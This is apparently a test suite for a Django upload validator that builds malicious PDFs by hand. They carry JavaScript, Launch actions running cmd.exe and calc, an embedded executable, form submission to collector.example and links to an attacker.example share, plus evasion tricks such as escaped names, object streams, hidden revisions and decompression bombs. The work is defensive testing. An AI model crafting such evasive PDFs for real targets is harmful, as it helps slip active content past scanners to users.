"""Uploaded PDFs are parsed, not scanned: active content is refused however it is written.

Every hostile PDF here is written byte by byte, so that each one carries exactly one trick; most
come in three spellings — plain, with every name ``#xx``-escaped (``/J#61vaScript``), and with
every dictionary compressed in an object stream behind a cross-reference stream — and PDFium
(the engine of Chrome's viewer, through pypdfium2) opens each one and, where its API can tell,
sees the active content, so none is refused merely for being broken. The benign ones (a scan
written by Pillow, several pages, links to web pages, a letter rendered by WeasyPrint, a PDF
whose cross-reference table pypdf has to repair) are accepted.

The probe that found the hole (a bytes search for ``/JavaScript``, ``/Launch``… plus a look at
the catalog) passed ``/S /J#61vaScript``, ``/S /L#61unch`` and JavaScript in an object stream;
``test_the_probes_three_pdfs_are_refused`` holds those three files exactly.
"""

from __future__ import annotations

import io
import struct
import time
import zlib
from dataclasses import dataclass, field

import pypdfium2 as pdfium
import pypdfium2.raw as pdfium_raw
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.forms import modelform_factory
from PIL import Image

from proposals import validators, validators_pdf
from proposals import workflow as pwf
from proposals.models import ProposalAttachment, Transition
from proposals.tests import factories as f
from proposals.validators import PDF, inspect_attachment

# --- Writing PDFs by hand ---------------------------------------------------------------------


def _runs(numbers: list[int]) -> list[list[int]]:
    runs: list[list[int]] = []
    for number in numbers:
        if runs and runs[-1][-1] == number - 1:
            runs[-1].append(number)
        else:
            runs.append([number])
    return runs


class HandPdf:
    """A PDF written object by object; each ``xref_table``/``xref_stream`` ends a revision."""

    def __init__(self) -> None:
        self.data = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
        self.offsets: dict[int, int] = {}  # objects written in this revision
        self.freed: set[int] = set()
        self.startxref: int | None = None
        self.size = 1

    def add(self, number: int, body: str | bytes, stream: bytes | None = None) -> None:
        raw = body.encode("latin-1") if isinstance(body, str) else body
        if stream is not None:
            raw = raw.rstrip()
            assert raw.endswith(b">>")
            raw = raw[:-2].rstrip() + b" /Length %d >>\nstream\n" % len(stream) + stream
            raw += b"\nendstream"
        self.offsets[number] = len(self.data)
        self.data += b"%d 0 obj\n%s\nendobj\n" % (number, raw)
        self.size = max(self.size, number + 1)

    def free(self, number: int) -> None:
        self.freed.add(number)

    def xref_table(self, trailer: str = "/Root 1 0 R") -> None:
        entries = {n: b"%010d 00000 n \n" % offset for n, offset in self.offsets.items()}
        entries.update({n: b"0000000000 00001 f \n" for n in self.freed})
        if self.startxref is None:
            entries[0] = b"0000000000 65535 f \n"
        position = len(self.data)
        self.data += b"xref\n"
        for run in _runs(sorted(entries)):
            self.data += b"%d %d\n" % (run[0], len(run)) + b"".join(entries[n] for n in run)
        previous = f" /Prev {self.startxref}" if self.startxref is not None else ""
        self.data += (
            f"trailer\n<< /Size {self.size} {trailer}{previous} >>\nstartxref\n{position}\n%%EOF\n"
        ).encode()
        self.startxref, self.offsets, self.freed = position, {}, set()

    def object_stream(self, number: int, members: dict[int, str]) -> dict[int, tuple[int, int]]:
        """Compress ``members`` into object stream ``number``; their cross-reference rows."""
        index, body = [], bytearray()
        for member, text in members.items():
            index.append(b"%d %d" % (member, len(body)))
            body += text.encode("latin-1") + b"\n"
        header = b" ".join(index) + b"\n"
        self.add(
            number,
            f"<< /Type /ObjStm /N {len(members)} /First {len(header)} /Filter /FlateDecode >>",
            zlib.compress(header + bytes(body)),
        )
        self.size = max(self.size, *(n + 1 for n in members))
        return {member: (number, i) for i, member in enumerate(members)}

    def xref_stream(self, number: int, trailer: str, packed: dict[int, tuple[int, int]]) -> None:
        position = len(self.data)
        self.offsets[number] = position
        self.size = max(self.size, number + 1)
        rows = {0: (0, 0, 65535)}
        rows |= {n: (1, offset, 0) for n, offset in self.offsets.items()}
        rows |= {n: (2, stream, i) for n, (stream, i) in packed.items()}
        table = b"".join(struct.pack(">BIH", *rows.get(n, (0, 0, 0))) for n in range(self.size))
        data = zlib.compress(table)
        previous = f" /Prev {self.startxref}" if self.startxref is not None else ""
        self.data += (
            f"{number} 0 obj\n<< /Type /XRef /Size {self.size} /W [1 4 2] /Filter /FlateDecode "
            f"{trailer}{previous} /Length {len(data)} >>\nstream\n"
        ).encode()
        self.data += data + f"\nendstream\nendobj\nstartxref\n{position}\n%%EOF\n".encode()
        self.startxref, self.offsets, self.freed = position, {}, set()

    def bytes(self) -> bytes:
        return bytes(self.data)


def escape_names(text: str) -> str:
    """Every name with its first letter as a ``#xx`` escape, strings left alone."""
    out, depth, i = [], 0, 0
    while i < len(text):
        char = text[i]
        if char == "\\" and depth:
            out.append(text[i : i + 2])
            i += 2
            continue
        if char == "(":
            depth += 1
        elif char == ")" and depth:
            depth -= 1
        elif char == "/" and not depth and text[i + 1 : i + 2].isalpha():
            out.append(f"/#{ord(text[i + 1]):02X}")
            i += 2
            continue
        out.append(char)
        i += 1
    return "".join(out)


Body = str | tuple[str, bytes]  # a dictionary, or a stream's dictionary and data

RECT = "/Rect [50 700 250 750]"
JS = "<< /S /JavaScript /JS (app.alert(1)) >>"
EXE = b"MZ\x90\x00" + b"\x00" * 60 + b"PE\x00\x00"
FILESPEC = "<< /Type /Filespec /F (invoice.exe) /UF (invoice.exe) /EF << /F 22 0 R >> >>"


def link(action: str) -> str:
    return f"<< /Type /Annot /Subtype /Link {RECT} /Border [0 0 0] /A {action} >>"


@dataclass
class Doc:
    """A one-page document: catalog 1, pages 2, page 3, contents 4, annotations from 10."""

    catalog: str = ""
    page: str = ""
    annots: tuple[str, ...] = ()
    extra: dict[int, Body] = field(default_factory=dict)
    trailer: str = ""

    def objects(self) -> dict[int, Body]:
        refs = " ".join(f"{10 + i} 0 R" for i in range(len(self.annots)))
        objects: dict[int, Body] = {
            1: f"<< /Type /Catalog /Pages 2 0 R {self.catalog} >>",
            2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: (
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R "
                f"/Resources << >> /Annots [{refs}] {self.page} >>"
            ),
            4: ("<< >>", b"0.5 w 72 72 m 523 770 l S"),
        }
        objects |= {10 + i: annot for i, annot in enumerate(self.annots)}
        return objects | self.extra

    def pdf(self, spelling: str = "plain") -> bytes:
        pdf = HandPdf()
        objects = self.objects()
        if spelling == "escaped":
            objects = {
                n: escape_names(b) if isinstance(b, str) else (escape_names(b[0]), b[1])
                for n, b in objects.items()
            }
        if spelling == "objstm":
            for number, body in sorted(objects.items()):
                if not isinstance(body, str):
                    pdf.add(number, *body)
            members = {n: b for n, b in sorted(objects.items()) if isinstance(b, str)}
            packed = pdf.object_stream(90, members)
            pdf.xref_stream(91, f"/Root 1 0 R {self.trailer}", packed)
            return pdf.bytes()
        for number, body in sorted(objects.items()):
            pdf.add(number, *((body,) if isinstance(body, str) else body))
        pdf.xref_table(f"/Root 1 0 R {self.trailer}")
        return pdf.bytes()


# --- What PDFium sees -------------------------------------------------------------------------


@dataclass
class Seen:
    pages: int
    javascript: int  # scripts in the document's JavaScript name tree
    attachments: int  # files in the EmbeddedFiles name tree
    annotations: list[int]  # FPDF_ANNOT_* subtypes on the first page
    actions: list[int]  # PDFACTION_* of the first page's links


def pdfium_sees(data: bytes) -> Seen:
    document = pdfium.PdfDocument(data)
    try:
        page = document[0]
        annotations, actions = [], []
        for i in range(pdfium_raw.FPDFPage_GetAnnotCount(page.raw)):
            annotation = pdfium_raw.FPDFPage_GetAnnot(page.raw, i)
            annotations.append(pdfium_raw.FPDFAnnot_GetSubtype(annotation))
            link_ = pdfium_raw.FPDFAnnot_GetLink(annotation)
            action = pdfium_raw.FPDFLink_GetAction(link_) if link_ else None
            if action:
                actions.append(pdfium_raw.FPDFAction_GetType(action))
            pdfium_raw.FPDFPage_CloseAnnot(annotation)
        page.close()
        return Seen(
            pages=len(document),
            javascript=pdfium_raw.FPDFDoc_GetJavaScriptActionCount(document.raw),
            attachments=pdfium_raw.FPDFDoc_GetAttachmentCount(document.raw),
            annotations=annotations,
            actions=actions,
        )
    finally:
        document.close()


LINK_ANNOT = pdfium_raw.FPDF_ANNOT_LINK
LAUNCH = pdfium_raw.PDFACTION_LAUNCH
URI = pdfium_raw.PDFACTION_URI


# --- The hostile corpus -----------------------------------------------------------------------

#: name: (document, what PDFium must see in it). Each is refused as active content in every
#: spelling.
ACTIVE: dict[str, tuple[Doc, object]] = {
    "link_javascript": (Doc(annots=(link(JS),)), lambda s: s.annotations == [LINK_ANNOT]),
    "link_launch": (
        Doc(annots=(link("<< /S /Launch /F (cmd.exe) >>"),)),
        lambda s: s.actions == [LAUNCH],
    ),
    "open_action_javascript": (Doc(catalog=f"/OpenAction {JS}"), None),
    "open_action_javascript_by_reference": (
        Doc(catalog="/OpenAction 20 0 R", extra={20: JS}),
        None,
    ),
    "open_action_launch_windows": (
        Doc(catalog="/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc) /O (open) >> >>"),
        None,
    ),
    "page_additional_action": (Doc(page=f"/AA << /O {JS} >>"), None),
    "annotation_additional_action": (
        Doc(
            annots=(f"<< /Type /Annot /Subtype /Link {RECT} /AA << /E 20 0 R >> >>",),
            extra={20: JS},
        ),
        lambda s: s.annotations == [LINK_ANNOT],
    ),
    "javascript_at_the_end_of_a_next_chain": (
        Doc(
            catalog="/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [20 0 R 21 0 R] >>",
            extra={
                20: "<< /S /GoTo /D [3 0 R /Fit] >>",
                21: f"<< /S /Named /N /NextPage /Next {JS} >>",
            },
        ),
        None,
    ),
    "javascript_name_tree": (
        Doc(
            catalog="/Names << /JavaScript 20 0 R >>",
            extra={20: "<< /Names [(init) 21 0 R] >>", 21: JS},
        ),
        lambda s: s.javascript == 1,
    ),
    "embedded_files_name_tree": (
        Doc(
            catalog="/Names << /EmbeddedFiles 20 0 R >>",
            extra={
                20: "<< /Names [(invoice.exe) 21 0 R] >>",
                21: FILESPEC,
                22: ("<< /Type /EmbeddedFile >>", EXE),
            },
        ),
        lambda s: s.attachments == 1,
    ),
    "file_attachment_annotation": (
        Doc(
            annots=(f"<< /Type /Annot /Subtype /FileAttachment {RECT} /FS 21 0 R >>",),
            extra={21: FILESPEC, 22: ("<< /Type /EmbeddedFile >>", EXE)},
        ),
        lambda s: s.annotations == [pdfium_raw.FPDF_ANNOT_FILEATTACHMENT],
    ),
    "rich_media_annotation": (
        Doc(annots=(f"<< /Type /Annot /Subtype /RichMedia {RECT} >>",)),
        lambda s: s.annotations == [pdfium_raw.FPDF_ANNOT_RICHMEDIA],
    ),
    "screen_annotation_with_a_rendition": (
        Doc(annots=(f"<< /Type /Annot /Subtype /Screen {RECT} /A << /S /Rendition /OP 0 >> >>",)),
        lambda s: s.annotations == [pdfium_raw.FPDF_ANNOT_SCREEN],
    ),
    "acroform_xfa": (
        Doc(
            catalog="/AcroForm << /Fields [] /XFA 20 0 R >>",
            extra={20: ("<< >>", b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")},
        ),
        None,
    ),
    "submit_form_button": (
        Doc(
            catalog="/AcroForm << /Fields [10 0 R] >>",
            annots=(
                f"<< /Type /Annot /Subtype /Widget /FT /Btn /Ff 65536 /T (send) {RECT} /P 3 0 R"
                " /A << /S /SubmitForm /F << /FS /URL /F (https://collector.example/) >> >> >>",
            ),
        ),
        lambda s: s.annotations == [pdfium_raw.FPDF_ANNOT_WIDGET],
    ),
    "import_data": (Doc(annots=(link("<< /S /ImportData /F (data.fdf) >>"),)), None),
    "go_to_remote_file": (
        Doc(annots=(link("<< /S /GoToR /F (//attacker.example/share/x.pdf) /D [0 /Fit] >>"),)),
        lambda s: s.actions == [pdfium_raw.PDFACTION_REMOTEGOTO],
    ),
    "go_to_embedded_file": (
        Doc(annots=(link("<< /S /GoToE /T << /R /C /N (x.pdf) >> /D [0 /Fit] >>"),)),
        lambda s: s.actions == [pdfium_raw.PDFACTION_EMBEDDEDGOTO],
    ),
    "javascript_in_an_outline_item": (
        Doc(
            catalog="/Outlines 20 0 R",
            extra={
                20: "<< /Type /Outlines /First 21 0 R /Last 21 0 R /Count 1 >>",
                21: "<< /Title (Start) /Parent 20 0 R /A 22 0 R >>",
                22: JS,
            },
        ),
        None,
    ),
    "referenced_only_from_the_trailers_info": (
        Doc(trailer="/Info 20 0 R", extra={20: "<< /Title (scan) /Run 21 0 R >>", 21: JS}),
        None,
    ),
    "referenced_by_nothing": (Doc(extra={20: JS}), None),
    "uri_javascript_scheme": (
        Doc(annots=(link("<< /S /URI /URI (javascript:app.alert(1)) >>"),)),
        lambda s: s.actions == [URI],
    ),
    "uri_file_scheme": (
        Doc(annots=(link("<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>"),)),
        lambda s: s.actions == [URI],
    ),
    "uri_network_path": (
        Doc(annots=(link("<< /S /URI /URI (//attacker.example/share) >>"),)),
        lambda s: s.actions == [URI],
    ),
    "named_action_other_than_turning_pages": (
        Doc(annots=(link("<< /S /Named /N /Print >>"),)),
        None,
    ),
    "action_of_a_type_no_viewer_knows": (Doc(annots=(link("<< /S /Exec /F (cmd.exe) >>"),)), None),
    "action_type_referenced_indirectly": (
        Doc(annots=(link("<< /S 20 0 R /F (cmd.exe) >>"),), extra={20: "/Launch"}),
        None,
    ),
}
SPELLINGS = ("plain", "escaped", "objstm")


def refusal(data: bytes) -> ValidationError:
    with pytest.raises(ValidationError) as info:
        inspect_attachment(SimpleUploadedFile("原件.pdf", data))
    return info.value


@pytest.mark.parametrize("spelling", SPELLINGS)
@pytest.mark.parametrize("name", ACTIVE)
def test_active_content_is_refused_in_every_spelling(name, spelling):
    doc, viewer_sees = ACTIVE[name]
    data = doc.pdf(spelling)
    seen = pdfium_sees(data)
    assert seen.pages == 1
    if viewer_sees is not None:
        assert viewer_sees(seen), seen
    error = refusal(data)
    assert error.code == "active_content", error.messages
    assert "活动内容" in error.messages[0]


def test_the_probes_three_pdfs_are_refused():
    """Exactly what got through: each escapes a bytes search and sits outside the catalog."""
    escaped_js = Doc(annots=(link("<< /S /J#61vaScript /JS (app.alert(1)) >>"),)).pdf()
    escaped_launch = Doc(annots=(link("<< /S /L#61unch /F (cmd.exe) >>"),)).pdf()
    compressed_js = Doc(annots=(link("20 0 R"),), extra={20: JS}).pdf("objstm")
    assert b"/JavaScript" not in escaped_js and b"/Launch" not in escaped_launch
    assert b"JavaScript" not in compressed_js
    assert pdfium_sees(escaped_launch).actions == [LAUNCH]
    for data in (escaped_js, escaped_launch, compressed_js):
        assert refusal(data).code == "active_content"
    assert "/JS" in refusal(escaped_js).messages[0]
    action_only = Doc(annots=(link("<< /S /J#61vaScript >>"),)).pdf()
    assert "/S /JavaScript" in refusal(action_only).messages[0]
    assert "/S /Launch" in refusal(escaped_launch).messages[0]


# --- Revisions, repairs and parser differentials ----------------------------------------------


def revised(first: Doc, later: dict[int, Body], *, free: tuple[int, ...] = ()) -> bytes:
    """``first`` as revision 1, then an update writing ``later`` and freeing ``free``; every
    name escaped, so that no bytes search finds what the revisions hold."""
    pdf = HandPdf()
    for revision in (first.objects(), later):
        for number, body in sorted(revision.items()):
            if isinstance(body, str):
                pdf.add(number, escape_names(body))
            else:
                pdf.add(number, escape_names(body[0]), body[1])
        for number in free if revision is later else ():
            pdf.free(number)
        pdf.xref_table()
    return pdf.bytes()


CATALOG = "<< /Type /Catalog /Pages 2 0 R >>"
JS_CATALOG = "<< /Type /Catalog /Pages 2 0 R /Names << /JavaScript 20 0 R >> >>"
JS_TREE = {20: "<< /Names [(init) 21 0 R] >>", 21: JS}


def test_javascript_added_by_an_incremental_update_is_refused():
    data = revised(Doc(), {1: JS_CATALOG, **JS_TREE})
    assert pdfium_sees(data).javascript == 1
    assert refusal(data).code == "active_content"


def test_javascript_left_in_an_earlier_revision_is_refused():
    """The update drops the script from the catalog and frees its objects: no viewer runs it
    now, but it is still in the file (and a viewer that shows earlier revisions shows it)."""
    first = Doc(catalog="/Names << /JavaScript 20 0 R >>", extra=dict(JS_TREE))
    freed = revised(first, {1: CATALOG}, free=(20, 21))
    assert pdfium_sees(first.pdf()).javascript == 1
    assert pdfium_sees(freed).javascript == 0
    assert refusal(freed).code == "active_content"


def test_an_object_overwritten_by_a_later_revision_is_still_inspected():
    first = Doc(annots=(link("21 0 R"),), extra={21: JS})
    data = revised(first, {21: "<< /S /GoTo /D [3 0 R /Fit] >>"})
    assert pdfium_sees(data).actions == [pdfium_raw.PDFACTION_GOTO]
    assert refusal(data).code == "active_content"


def test_javascript_in_an_object_stream_of_an_earlier_revision_is_refused():
    """Revision 1 keeps action 21 compressed in an object stream; revision 2 writes a harmless
    21 over it. Only reading the members of every object stream finds the first."""
    pdf = HandPdf()
    for number, body in sorted(Doc(annots=(link("21 0 R"),)).objects().items()):
        pdf.add(number, *((body,) if isinstance(body, str) else body))
    packed = pdf.object_stream(30, {21: JS})
    pdf.xref_stream(31, "/Root 1 0 R", packed)
    pdf.add(21, "<< /S /GoTo /D [3 0 R /Fit] >>")
    pdf.xref_table()
    data = pdf.bytes()
    assert b"JavaScript" not in data
    assert pdfium_sees(data).actions == [pdfium_raw.PDFACTION_GOTO]
    assert refusal(data).code == "active_content"


def break_xref(data: bytes) -> bytes:
    """Every offset in the cross-reference table wrong: readers must rebuild it."""
    head, _, tail = data.rpartition(b"xref\n")
    lines = tail.split(b"\n")
    lines = [b"9999999999" + line[10:] if line.endswith(b" n ") else line for line in lines]
    return head + b"xref\n" + b"\n".join(lines)


def test_a_pdf_whose_xref_must_be_repaired_is_read_and_inspected():
    benign = break_xref(Doc().pdf())
    hostile = break_xref(Doc(annots=(link("<< /S /Launch /F (cmd.exe) >>"),)).pdf("escaped"))
    assert pdfium_sees(hostile).actions == [LAUNCH]
    assert inspect_attachment(SimpleUploadedFile("原件.pdf", benign)) is PDF
    assert refusal(hostile).code == "active_content"


def test_a_key_defined_twice_is_refused_because_viewers_read_the_last_one():
    """pypdf keeps the first /S (GoTo, harmless), PDFium the last (Launch)."""
    action = "<< /S /GoTo /D [3 0 R /Fit] /S /L#61unch /F (cmd.exe) >>"
    data = Doc(annots=(link(action),)).pdf()
    assert pdfium_sees(data).actions == [LAUNCH]
    assert refusal(data).code == "unreadable"


def test_a_dictionary_that_does_not_parse_to_its_end_is_refused():
    """A lenient parse keeps what came before the error and reads on from where it stopped; a
    viewer may read it otherwise. Here nothing pypdf keeps is active, yet the file is refused."""
    data = Doc(annots=(link("<< /S /GoTo /D [3 0 R /Fit] /X <zz> >>"),)).pdf()
    assert refusal(data).code == "unreadable"


# --- Absurd structure -------------------------------------------------------------------------


def test_deep_nesting_is_refused_as_too_complex():
    shallow_bomb = Doc(page="/Bomb " + "[" * 200 + "]" * 200).pdf()
    deep_bomb = Doc(page="/Bomb " + "[0 " * 50_000 + "]" * 50_000).pdf()
    assert refusal(shallow_bomb).code == "too_complex"
    assert refusal(deep_bomb).code == "too_complex"


def test_a_huge_object_count_is_refused_quickly():
    extra = {n: "null" for n in range(20, 20 + validators.PDF_MAX_OBJECTS + 10)}
    data = Doc(extra=extra).pdf()
    started = time.perf_counter()
    error = refusal(data)
    assert error.code == "too_complex"
    assert "过于复杂" in error.messages[0]
    assert time.perf_counter() - started < 2


def test_an_object_stream_claiming_millions_of_members_is_refused():
    pdf = HandPdf()
    for number, body in sorted(Doc().objects().items()):
        pdf.add(number, *((body,) if isinstance(body, str) else body))
    pdf.add(
        20,
        "<< /Type /ObjStm /N 10000000 /First 4 /Filter /FlateDecode >>",
        zlib.compress(b"21 0\nnull"),
    )
    pdf.xref_table()
    assert refusal(pdf.bytes()).code == "too_complex"


def test_a_cross_reference_stream_claiming_millions_of_entries_is_refused():
    pdf = HandPdf()
    for number, body in sorted(Doc().objects().items()):
        pdf.add(number, *((body,) if isinstance(body, str) else body))
    position = len(pdf.data)
    table = zlib.compress(b"\x01\x00" * 5_000_000)
    pdf.data += (
        (
            f"9 0 obj\n<< /Type /XRef /Size 5000000 /W [1 1 0] /Root 1 0 R /Filter /FlateDecode "
            f"/Length {len(table)} >>\nstream\n"
        ).encode()
        + table
        + f"\nendstream\nendobj\nstartxref\n{position}\n%%EOF\n".encode()
    )
    assert refusal(pdf.bytes()).code == "too_complex"


def test_a_decompression_bomb_in_an_object_stream_is_refused():
    pdf = HandPdf()
    for number, body in sorted(Doc().objects().items()):
        pdf.add(number, *((body,) if isinstance(body, str) else body))
    bomb = zlib.compress(b"21 0\n" + b" " * (validators.PDF_MAX_DECODED_BYTES + 1), 9)
    pdf.add(20, "<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode >>", bomb)
    pdf.xref_table()
    assert len(pdf.data) < 100_000
    assert refusal(pdf.bytes()).code == "too_complex"


def test_the_time_budget_is_enforced(monkeypatch):
    monkeypatch.setattr(validators_pdf, "PDF_TIME_BUDGET", -1.0)  # read where it is used
    assert refusal(Doc().pdf()).code == "too_complex"


# --- Benign PDFs --------------------------------------------------------------------------------


def scan(pages: int = 1, size=(1240, 1754)) -> bytes:
    """A scan as a scanner's software writes it: one JPEG per A4 page (150 dpi), by Pillow."""
    images = [Image.effect_noise(size, 48).convert("RGB") for _ in range(pages)]
    buffer = io.BytesIO()
    images[0].save(buffer, "PDF", resolution=150, save_all=True, append_images=images[1:])
    return buffer.getvalue()


BENIGN_LINKS = Doc(
    catalog="/Outlines 20 0 R /OpenAction [3 0 R /Fit] /PageMode /UseOutlines",
    annots=(
        link("<< /S /URI /URI (https://www.shcn.gov.cn/col/index.html) >>"),
        link("<< /S /URI /URI (http://example.org/) >>"),
        link("<< /S /URI /URI (mailto:tian@example.org) >>"),
        link("<< /S /GoTo /D [3 0 R /XYZ 0 842 0] /Next << /S /Named /N /NextPage >> >>"),
        f"<< /Type /Annot /Subtype /Link {RECT} /Dest [3 0 R /Fit] >>",
        f"<< /Type /Annot /Subtype /Text {RECT} /Contents (note) >>",
    ),
    extra={
        20: "<< /Type /Outlines /First 21 0 R /Last 21 0 R /Count 1 >>",
        21: "<< /Title (Page 1) /Parent 20 0 R /A << /S /GoTo /D [3 0 R /Fit] >> >>",
    },
)


def accepted(data: bytes) -> bool:
    return inspect_attachment(SimpleUploadedFile("原件.pdf", data)) is PDF


def test_a_scanned_page_and_a_multi_page_scan_are_accepted():
    assert accepted(scan())
    assert accepted(scan(pages=5))


@pytest.mark.parametrize("spelling", SPELLINGS)
def test_web_links_page_links_and_an_outline_are_accepted(spelling):
    data = BENIGN_LINKS.pdf(spelling)
    assert pdfium_sees(data).actions.count(URI) == 3
    assert accepted(data)


def test_a_benign_incremental_update_is_accepted():
    data = revised(
        Doc(), {3: BENIGN_LINKS.objects()[3], 10: link("<< /S /URI /URI (https://a.example/) >>")}
    )
    assert accepted(data)


def test_a_letter_rendered_by_weasyprint_is_accepted():
    from replies.letter import Letter, parse_body
    from replies.pdf import render_letter_pdf

    paragraphs = "\n".join(
        f"{i}．关于加强社区养老服务设施建设的建议办理情况。" * 12 for i in range(40)
    )
    letter = Letter(
        title="对区政协十五届二次会议第061号提案的答复",
        salutation="张文浩委员：",
        body=parse_body(paragraphs),
        signature_organ="长宁区发展和改革委员会",
    )
    data = render_letter_pdf(letter)
    assert pdfium_sees(data).pages > 1
    assert accepted(data)


def test_a_pdf_written_by_pypdf_with_a_link_is_accepted():
    from pypdf import PdfWriter
    from pypdf.annotations import Link

    writer = PdfWriter()
    writer.add_blank_page(595, 842)
    writer.add_blank_page(595, 842)
    writer.add_annotation(0, Link(rect=(50, 50, 200, 80), target_page_index=1))
    writer.add_outline_item(title="第二页", page_number=1)
    buffer = io.BytesIO()
    writer.write(buffer)
    assert accepted(buffer.getvalue())


def big_scan(limit: int) -> bytes:
    """A scan of A4 pages at 300 dpi, as many as fit in ``limit`` bytes."""
    pages = max(1, limit // len(scan(size=(2480, 3508))))
    while len(data := scan(pages=pages, size=(2480, 3508))) > limit:
        pages -= 1
    return data


def fastest(check, data: bytes, runs: int = 3) -> float:
    """The shortest of ``runs`` timings (the others measure the machine's load)."""
    times = []
    for _ in range(runs):
        started = time.perf_counter()
        check(data)
        times.append(time.perf_counter() - started)
    return min(times)


def test_a_scan_near_the_size_cap_is_inspected_in_well_under_a_second():
    data = big_scan(validators.max_bytes())
    assert validators.max_bytes() // 2 < len(data) <= validators.max_bytes()
    assert accepted(data)
    assert fastest(accepted, data) < 1


# --- Nothing is stored when refused -----------------------------------------------------------


@pytest.fixture
def assigned(committee, session, unit_a, proposer_user, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    proposal = f.ProposalFactory(session=session, lead_proposer=proposer_user.proposer)
    pwf.file_proposal(proposal, actor=committee)
    pwf.assign_proposal(proposal, actor=committee, units=[(unit_a, "lead")])
    return proposal


@pytest.mark.django_db
def test_add_attachment_refuses_hostile_pdfs_and_stores_nothing(assigned, clerk_a, settings):
    hostile = [
        Doc(annots=(link("<< /S /L#61unch /F (cmd.exe) >>"),)).pdf(),
        Doc(annots=(link("20 0 R"),), extra={20: JS}).pdf("objstm"),
        Doc(page="/Bomb " + "[" * 200 + "]" * 200).pdf(),
        break_xref(Doc().pdf())[:-200],
    ]
    for data in hostile:
        with pytest.raises(pwf.InvalidInput) as info:
            pwf.add_attachment(assigned, actor=clerk_a, file=SimpleUploadedFile("原件.pdf", data))
        assert info.value.field == "file"
    assert not ProposalAttachment.objects.exists()
    assert not Transition.objects.filter(verb="add_attachment").exists()
    assert not (settings.MEDIA_ROOT / "proposals").exists()
    pwf.add_attachment(assigned, actor=clerk_a, file=SimpleUploadedFile("原件.pdf", scan()))
    assert ProposalAttachment.objects.count() == 1


@pytest.mark.django_db
def test_the_model_form_refuses_a_hostile_pdf(assigned):
    form_class = modelform_factory(ProposalAttachment, fields=["file", "name"])
    data = Doc(annots=(link("<< /S /J#61vaScript /JS (app.alert(1)) >>"),)).pdf()
    form = form_class(data={"name": "原件"}, files={"file": SimpleUploadedFile("原件.pdf", data)})
    form.instance.proposal = assigned
    assert not form.is_valid()
    assert "活动内容" in form.errors["file"][0]
